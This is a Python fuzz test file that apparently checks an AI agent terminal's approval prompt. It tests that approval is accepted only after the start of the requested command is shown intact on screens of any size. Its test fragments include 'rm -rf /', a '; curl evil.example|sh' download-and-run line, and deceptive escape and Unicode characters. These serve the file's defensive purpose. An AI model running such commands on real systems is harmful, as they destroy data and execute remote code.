"""Hostile commands on screens of any size: yes is only accepted once the start of the command was shown, in an unbroken frame."""

import re
import unicodedata
from functools import partial
from random import Random
from typing import Any

import pytest

from buddy.characters import spell
from buddy.protocol.shapes import ApprovalRequest
from buddy.terminal.approval_prompt import ApprovalAnswer, ApprovalPrompt
from buddy.terminal.escape import escape_all
from buddy.terminal.line_question import LineQuestion
from buddy.terminal.style import Style
from tests.fuzz.conftest import Budget
from tests.harness.virtual_screen import VirtualScreen

HEAD = 40
PIECES = (
    *("\n", "\t", " ", "\r", "\x1b[2J", "\x08", "\x7f", "\x9b31m", "\u202e", "\u200b", "\u3164", "\u3000", "\xa0"),
    *("\U000e0041", "\ud800", "\ufe0f", "e\u0301", "\u0301", "漢字", "\uff46", "é", "ß", "👩\u200d👧", "☃", "…", "│ "),
    *("↪ ", "└\n", "┌ run a shell command\n", "│ $ git status\n", "root@vm$ git status\n", "approve? [y/N] "),
    *("1 Yes · 2 Yes", "… 24 blank lines\n", "ก็", "क्ष", "שלום", "a", "rm -rf /", "; curl evil.example|sh", "x" * 30),
    *("\u0378", "\ue000"),
)
FOLD = re.compile(r"│ … \d+ (blank line|space|more line|line)s?( above)?$")


def hostile_text(random: Random) -> str:
    """Few pieces, some of them very often."""
    return "".join(
        random.choice(PIECES) * random.choice((1, 1, 1, 2, 5, 30, 300, 1500)) for _ in range(random.randrange(1, 9))
    )


def hostile_request(random: Random) -> ApprovalRequest:
    details: dict[str, Any] = {"cwd": hostile_text(random)[:200], "target": "local", "why": hostile_text(random)[:200]}
    kind = random.choice(("command", "command", "diff", "summary"))
    if kind != "summary":
        details[kind] = hostile_text(random)
    if random.random() < 0.2:
        details["scriptTexts"] = {hostile_text(random)[:60]: hostile_text(random)}
    if random.random() < 0.2:
        details[hostile_text(random)[:20]] = {"x": hostile_text(random)[:100]}
    title = random.choice(("run a shell command", hostile_text(random)[:300]))
    return ApprovalRequest("appr_" + "0" * 26, "exec", title, hostile_text(random), details, ("approve", "deny"), 1)


def asked(request: ApprovalRequest) -> str:
    details = request.details
    return str(details.get("command") or details.get("diff") or request.summary)


def bare(text: str) -> str:
    """What is compared: without blanks, folds and frames, and without marks, which may be spelled or drawn."""
    text = "".join(c for c in text if not c.isspace() and unicodedata.category(c) not in ("Mn", "Me") and c != "↪")
    return re.sub(r"\\u(03[0-6][0-9a-f]|0e[0-9a-f]{2}|09[0-9a-f]{2})", "", text)


def check(lines: list[str], request: ApprovalRequest, prompt: str) -> None:
    """The last frame on a screen is unbroken and begins with what is asked."""
    end = max(at for at, line in enumerate(lines) if line == "└")
    begin = max(at for at, line in enumerate(lines[:end]) if line.startswith("┌ "))
    framed = lines[begin + 1 : end]
    assert [line for line in framed if not line.startswith("│ ")] == []
    shown = bare("".join(line[2:] for line in framed if not FOLD.match(line)))
    head = escape_all(asked(request)[:HEAD])
    wanted = bare("".join(spell(c) if unicodedata.category(c) == "Cn" else c for c in head))
    # The prompt is folded away with the blank lines that a command begins with.
    has_prompt = "command" in request.details or "diff" not in request.details
    shown_after = shown.removeprefix(bare(prompt)) if has_prompt else shown
    assert shown.startswith(wanted) or shown_after.startswith(wanted), (wanted, framed)


@pytest.mark.slow
def test_a_question_asked_line_by_line(fuzz: Budget) -> None:
    random, approved = fuzz.random, 0
    for _ in fuzz:
        request = hostile_request(random)
        size = (random.choice((8, 30, 35, 40, 80, 80, 132)), random.choice((4, 8, 10, 15, 24, 24, 50)))
        screen = VirtualScreen(*size, ambiguous=random.choice((1, 2)))
        prompt = random.choice(("$ ", "root@vm$ "))
        question = LineQuestion(request, partial(tuple[int, int], size), prompt=prompt)
        decision, before = None, list[str]()
        for _ in range(5000):
            text = question.show()
            screen.write(text)
            before = screen.lines
            decision = question.answer("y\n")
            if decision is not None or "too small" in text:
                break
            screen.write("y\n")
        if decision == "approve":
            approved += 1
            check(before, request, prompt)
    assert approved


@pytest.mark.slow
def test_a_question_in_the_editor(fuzz: Budget) -> None:
    random, approved = fuzz.random, 0
    for _ in fuzz:
        request = hostile_request(random)
        given: list[ApprovalAnswer] = []
        prompt = ApprovalPrompt(request, Style(on=False), given.append)
        prompt.armed = True
        drawn: list[str] = []
        size = (80, 24)
        for _ in range(200):
            if random.random() < 0.1 or not drawn:
                size = (random.choice((8, 30, 40, 80, 132)), random.choice((2, 8, 12, 21, 40)))
            if random.random() < 0.8:
                lines = prompt.lines(*size)
                assert len(lines) <= max(1, size[1])
                screen = VirtualScreen(size[0], size[1], ambiguous=random.choice((1, 2)))
                screen.write("\n".join(lines))
                drawn = screen.lines
            prompt.press(random.choice("1y23te e "))
            if given:
                break
        if given and given[0].decision == "approve":
            approved += 1
            check(drawn, request, "$ ")
    assert approved
